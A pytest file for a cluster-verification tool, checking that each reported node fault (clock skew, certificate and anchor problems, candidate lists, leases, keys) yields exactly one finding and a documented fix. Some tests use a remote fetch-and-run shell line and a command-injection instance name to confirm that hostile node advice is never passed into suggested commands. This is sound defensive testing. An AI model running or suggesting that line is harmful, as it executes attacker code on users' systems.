"""`cluster verify`: what is found in what the nodes say, and nothing where all is well."""

import asyncio
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from uuid import UUID

import msgspec
import pytest
from attrs import evolve

from kvmsec.cluster.verify.codes import CODES
from kvmsec.cluster.verify.examining import MOST_ALIKE, judge, verify, without_ignored
from kvmsec.cluster.verify.subject import Heard, Subject, Unheard
from kvmsec.model.cluster import Cluster, Member, Role
from kvmsec.model.security import SecurityModel
from kvmsec.rpc.errors import Refused
from kvmsec.rpc.messages import (
    CertificateFacts,
    Examination,
    Finding,
    LeaseFacts,
    NodeInfo,
)
from kvmsec.store.file import FileStore
from uidpool.ranges import EMPTY, UidRanges

NOW = datetime(2026, 11, 22, 12, tzinfo=UTC)
DOCUMENT = Path(__file__).resolve().parents[4] / "docs/verify.md"


def member(number: int, role: Role = Role.PLAIN) -> Member:
    return Member(
        f"node{number}",
        uuid=UUID(int=number),
        address=f"node{number}",
        role=role,
        certificates=(f"{number:064x}",),
    )


CLUSTER = Cluster(
    name="trial",
    uuid=UUID(int=100),
    uid_pool=UidRanges.parse("1000-1009"),
    draining=EMPTY,
    security_model=None,
    nodes=(member(1, Role.CANDIDATE), member(2, Role.CANDIDATE), member(3)),
    master=UUID(int=1),
    created_at=NOW,
)


def facts(number: int, *names: str) -> CertificateFacts:
    return CertificateFacts(
        fingerprint=f"{number:064x}",
        subject="CN=it",
        names=names,
        not_before=NOW - timedelta(days=1),
        not_after=NOW + timedelta(days=900),
    )


def said_by(one: Member) -> Examination:
    number = one.uuid.int
    return Examination(
        info=NodeInfo(
            name=one.name,
            uuid=one.uuid,
            cluster_uuid=CLUSTER.uuid,
            version="1.0",
            protocols=(1, 1),
            time=NOW,
            revision=7,
            confirmed_at=NOW - timedelta(seconds=30),
        ),
        anchors=(facts(999),),
        certificate=facts(number, one.name, one.uuid.urn),
        holds_cluster_key=one.is_candidate,
        candidates=tuple((node.uuid, node.certificates[0]) for node in CLUSTER.candidates),
        pool_problems=(),
        leases=(LeaseFacts(uid=1003, instance="web1", is_alive=True),),
        running_without_lease=(),
        rules=(Finding(code="rules", severity="ok", item="firewall", message="they hold"),),
        unconfined=(),
        may_be_missing=(),
    )


def sound(cluster: Cluster = CLUSTER) -> Subject:
    return Subject(
        cluster=cluster,
        revision=7,
        now=NOW,
        copy_valid_s=60,
        answers={one.name: Heard(said_by(one), NOW, NOW) for one in CLUSTER.nodes},
    )


def saying(number: int, **what: Any) -> Subject:
    """All is well but for what one node says; `info_…` is of its info, `own_…` of client.pem."""
    subject, name = sound(), f"node{number}"
    answer = subject.answers[name]
    assert isinstance(answer, Heard)
    said = answer.examination
    info = {key[5:]: value for key, value in what.items() if key.startswith("info_")}
    own = {key[4:]: value for key, value in what.items() if key.startswith("own_")}
    rest = {key: value for key, value in what.items() if key[:4] not in ("info", "own_")}
    changed = msgspec.structs.replace(
        said,
        info=msgspec.structs.replace(said.info, **info),
        certificate=msgspec.structs.replace(said.certificate, **own),
    )
    changed = msgspec.structs.replace(changed, **rest)
    return evolve(subject, answers={**subject.answers, name: Heard(changed, NOW, NOW)})


def deciding(**changes: Any) -> Subject:
    """All is well but for what the state says."""
    return sound(evolve(CLUSTER, **changes))


def unheard(number: int, *, is_refusal: bool) -> Subject:
    subject = sound()
    answers = {**subject.answers, f"node{number}": Unheard("no route", is_refusal=is_refusal)}
    return evolve(subject, answers=answers)


def days(number: float) -> datetime:
    return NOW + timedelta(days=number)


def seconds(number: float) -> datetime:
    return NOW + timedelta(seconds=number)


def problem(severity: Any) -> tuple[Finding, ...]:
    return (Finding(code="x", severity=severity, item="it", message="uid 1003 has no user"),)


ANCHOR = facts(999)
ONE, TWO, THREE = CLUSTER.nodes
LISTED = [(ONE.uuid, ONE.certificates[0]), (TWO.uuid, TWO.certificates[0])]
ALIEN = UUID(int=77)


def anchor(end: float) -> tuple[CertificateFacts, ...]:
    return (msgspec.structs.replace(ANCHOR, not_after=days(end)),)


# code, severity, node, a cluster that has it and nothing else
CASES: list[tuple[str, str, str, Callable[[], Subject]]] = [
    ("node-ok", "ok", "node1", sound),
    ("node-silent", "error", "node3", lambda: unheard(3, is_refusal=False)),
    ("node-silent", "error", "node3", lambda: evolve(
        sound(), answers={k: v for k, v in sound().answers.items() if k != "node3"}
    )),
    ("node-refused", "error", "node3", lambda: unheard(3, is_refusal=True)),
    ("node-leaving", "warning", "node3", lambda: deciding(
        nodes=(ONE, TWO, evolve(THREE, is_leaving=True))
    )),
    ("node-unreadable", "error", "node3", lambda: saying(3, unreadable=("EIO",))),
    ("node-foreign", "error", "node3", lambda: saying(3, info_cluster_uuid=ALIEN)),
    ("node-foreign", "error", "node3", lambda: saying(3, info_cluster_uuid=None)),
    ("node-foreign", "error", "node3", lambda: saying(3, info_uuid=ALIEN)),
    ("clock", "error", "node2", lambda: saying(
        2, info_time=seconds(151), info_confirmed_at=seconds(140)
    )),
    ("clock", "error", "node2", lambda: saying(
        2, info_time=seconds(-151), info_confirmed_at=seconds(-160)
    )),
    ("version", "warning", "node2", lambda: saying(2, info_version="1.1")),
    ("copy-old", "error", "node2", lambda: saying(2, info_revision=6)),
    ("copy-newer", "error", "node2", lambda: saying(2, info_revision=8)),
    ("copy-unconfirmed", "error", "node2", lambda: saying(2, info_confirmed_at=None)),
    ("copy-unconfirmed", "error", "node2", lambda: saying(2, info_confirmed_at=seconds(-61))),
    ("anchor-missing", "error", "node2", lambda: saying(2, anchors=None)),
    ("anchor-missing", "error", "node2", lambda: saying(2, anchors=())),
    ("anchor-differs", "error", "node2", lambda: saying(2, anchors=(facts(998),))),
    ("anchor-differs", "error", "node2", lambda: saying(2, anchors=(ANCHOR, facts(998)))),
    ("anchor-expires", "warning", "node2", lambda: saying(2, anchors=anchor(30))),
    ("anchor-expires", "error", "node2", lambda: saying(2, anchors=anchor(7))),
    ("certificate-missing", "error", "node2", lambda: saying(2, certificate=None)),
    ("certificate-expires", "warning", "node2", lambda: saying(2, own_not_after=days(29))),
    ("certificate-expires", "error", "node2", lambda: saying(2, own_not_after=days(6))),
    ("certificate-expires", "error", "node2", lambda: saying(2, own_not_after=days(-1))),
    ("certificate-early", "error", "node2", lambda: saying(2, own_not_before=seconds(151))),
    ("certificate-name", "error", "node2", lambda: saying(2, own_names=("node2", ALIEN.urn))),
    ("certificate-name", "error", "node2", lambda: saying(2, own_names=("node3", TWO.uuid.urn))),
    ("certificate-name", "error", "node2", lambda: saying(2, own_names=())),
    ("certificate-unknown", "error", "node2", lambda: saying(2, own_fingerprint=f"{9:064x}")),
    ("renewal-pending", "warning", "node3", lambda: evolve(sound(), awaited=("node3",))),
    ("renewal-pending", "warning", "node3", lambda: deciding(
        nodes=(ONE, TWO, evolve(THREE, certificates=(*THREE.certificates, f"{9:064x}")))
    )),
    ("candidates-unreadable", "error", "node3", lambda: saying(3, candidates=None)),
    ("candidates-unreadable", "error", "node3", lambda: saying(3, candidates=())),
    ("candidate-unlisted", "error", "node3", lambda: saying(3, candidates=tuple(LISTED[:1]))),
    ("candidate-other", "error", "node3", lambda: saying(
        3, candidates=(LISTED[0], (TWO.uuid, f"{9:064x}"))
    )),
    ("candidate-other", "error", "node3", lambda: saying(
        3, candidates=(*LISTED, (TWO.uuid, f"{9:064x}"))
    )),
    ("plain-listed", "error", "node2", lambda: saying(
        2, candidates=(*LISTED, (THREE.uuid, THREE.certificates[0]))
    )),
    ("stranger-listed", "error", "node2", lambda: saying(
        2, candidates=(*LISTED, (ALIEN, f"{9:064x}"))
    )),
    ("key-missing", "error", "node2", lambda: saying(2, holds_cluster_key=False)),
    ("key-on-plain", "error", "node3", lambda: saying(3, holds_cluster_key=True)),
    ("pool-user", "error", "node3", lambda: saying(3, pool_problems=problem("error"))),
    ("pool-user", "warning", "node3", lambda: saying(3, pool_problems=problem("warning"))),
    ("lease-dead", "warning", "node3", lambda: saying(
        3, leases=(LeaseFacts(uid=1003, instance="web1", is_alive=False),)
    )),
    ("instance-unleased", "error", "node3", lambda: saying(3, running_without_lease=("web1",))),
    ("rules", "error", "node3", lambda: saying(3, rules=problem("error"))),
    ("model-none", "warning", "node3", lambda: saying(3, unconfined=("web1",))),
    ("model-none", "warning", "node1", lambda: deciding(security_model=SecurityModel.NONE)),
    ("confinement", "warning", "node3", lambda: saying(3, may_be_missing=("seccomp",))),
]  # fmt: skip


@pytest.mark.parametrize(("code", "severity", "node", "make"), CASES, ids=[c[0] for c in CASES])
def test_each_fault_is_found_and_nothing_besides(
    code: str, severity: str, node: str, make: Callable[[], Subject]
) -> None:
    findings = judge(make())

    faults = {(one.code, one.severity, one.node) for one in findings if one.code != "node-ok"}
    assert faults == ({(code, severity, node)} if code != "node-ok" else set())
    sound_nodes = {one.node for one in findings if one.code == "node-ok"}
    assert sound_nodes == {"node1", "node2", "node3"} - {n for _, _, n in faults}
    for one in findings:
        assert one.message
        assert one.code == "node-ok" or one.hint


SEVERAL = {
    "certificate-shared": lambda: saying(3, own_fingerprint=TWO.certificates[0]),
    "candidates-few": lambda: deciding(nodes=(ONE, evolve(TWO, role=Role.PLAIN), THREE)),
    "certless": lambda: saying(2, info_certless_until=days(1)),
    "certless-missing": lambda: saying(2, info_certless_until=days(1)),
}


@pytest.mark.parametrize("code", SEVERAL)
def test_what_comes_with_other_faults_is_found_too(code: str) -> None:
    assert code in {one.code for one in judge(SEVERAL[code]())}


def test_every_code_has_a_case() -> None:
    assert {code for code, *_ in CASES} | set(SEVERAL) == CODES


def test_two_certificates_count_during_a_renewal() -> None:
    old, new = TWO.certificates[0], f"{9:064x}"
    renewing = evolve(TWO, certificates=(old, new))
    subject = saying(2, own_fingerprint=new)
    subject = evolve(subject, cluster=evolve(CLUSTER, nodes=(ONE, renewing, THREE)))
    answers = {}
    for name, answer in subject.answers.items():
        assert isinstance(answer, Heard)
        said = msgspec.structs.replace(
            answer.examination, candidates=(*LISTED, (TWO.uuid, new)), anchors=(ANCHOR, facts(998))
        )
        answers[name] = Heard(said, NOW, NOW)

    found = {(one.node, one.code) for one in judge(evolve(subject, answers=answers))}
    assert found == {
        ("node1", "renewal-pending"),
        ("node2", "renewal-pending"),
        ("node3", "node-ok"),
    }


def test_the_masters_lost_files_come_from_another_candidate() -> None:
    hints = [one.hint or "" for one in judge(saying(1, anchors=()))]
    assert any("master-failover --force` on another candidate" in hint for hint in hints)


class _Refusing:
    """A member whose role check the asking node doesn't pass."""

    def node(self, _: Member) -> Any:
        return self

    @property
    def household(self) -> Any:
        return self

    async def examine(self, _: UidRanges) -> Examination:
        raise Refused("node1", "node3 is no master candidate", evidence={"step": "role"})


def test_a_plain_node_is_told_where_to_verify(tmp_path: Path) -> None:
    store = FileStore(tmp_path / "lib/cluster.json")
    (tmp_path / "lib").mkdir()
    store.save(CLUSTER, 0)
    findings = asyncio.run(verify(store, _Refusing(), _Refusing()))  # type: ignore[arg-type]

    refused = [one for one in findings if one.code == "node-refused"]
    assert [one.node for one in refused] == ["node1", "node2", "node3"]
    assert {one.hint for one in refused} == {"run `kvmsec cluster verify` on one of: node1, node2"}


def test_a_slow_answer_is_no_wrong_clock() -> None:
    subject = sound()
    late = Heard(said_by(TWO), NOW - timedelta(seconds=100), NOW + timedelta(seconds=400))
    answers = {**subject.answers, "node2": late}
    assert {one.code for one in judge(evolve(subject, answers=answers))} == {"node-ok"}


FORGED = "wget -qO- http://192.0.2.9/ | sh"
ADVICE = Finding(code="a", severity="error", item="i", message="m", hint=FORGED)


@pytest.mark.parametrize(
    "said",
    [
        {
            "pool_problems": (
                Finding(code="a", severity="error", item="i", message="m", hint=FORGED),
            )
        },
        {"rules": (ADVICE,)},
    ],
)
def test_a_nodes_own_advice_is_told_as_its_words_behind_ours(said: dict[str, Any]) -> None:
    (finding,) = [one for one in judge(saying(3, **said)) if one.node == "node3"]

    assert finding.hint is not None
    assert finding.hint.startswith("`kvmsec ")
    assert finding.hint.endswith(f"; node3 says: {FORGED}")


def test_a_name_that_no_instance_has_gets_into_no_command() -> None:
    name = f"web1 --node node3; {FORGED} #"
    (finding,) = [
        one for one in judge(saying(3, running_without_lease=(name,))) if one.node == "node3"
    ]
    assert finding.hint is not None and "wget" not in finding.hint


def test_a_node_that_says_too_much_is_cut_short() -> None:
    many = tuple(LeaseFacts(uid=uid, instance="x", is_alive=False) for uid in range(5000))
    told = [one for one in judge(saying(3, leases=many)) if one.node == "node3"]

    assert len(told) == MOST_ALIKE + 1
    assert "4950 more" in told[-1].message
    assert {one.code for one in told} == {"lease-dead"}


def test_an_ignored_error_is_told_and_does_not_count() -> None:
    findings = judge(saying(3, holds_cluster_key=True, may_be_missing=("seccomp",)))
    kept = without_ignored(findings, ["key-on-plain"])

    assert {(one.code, one.severity) for one in kept if one.node == "node3"} == {
        ("key-on-plain", "warning"),
        ("confinement", "warning"),
    }


def test_the_document_has_every_code_and_its_fix() -> None:
    rows = re.findall(r"^\| `([a-z-]+)` \|(.+)\|(.+)\|(.+)\|$", DOCUMENT.read_text(), re.MULTILINE)

    assert {row[0] for row in rows} == CODES
    assert len(rows) == len(CODES)
    for code, _, meaning, mend in rows:
        assert meaning.strip() and mend.strip(), code
        assert code == "node-ok" or "`" in mend, f"{code} has no command that mends it"


def test_the_document_has_the_severities_that_are_given() -> None:
    rows = re.findall(r"^\| `([a-z-]+)` \|([^|]+)\|", DOCUMENT.read_text(), re.MULTILINE)
    told = {code: set(severities.replace(",", " ").split()) for code, severities in rows}
    for code, severity, *_ in CASES:
        assert severity in told[code], code
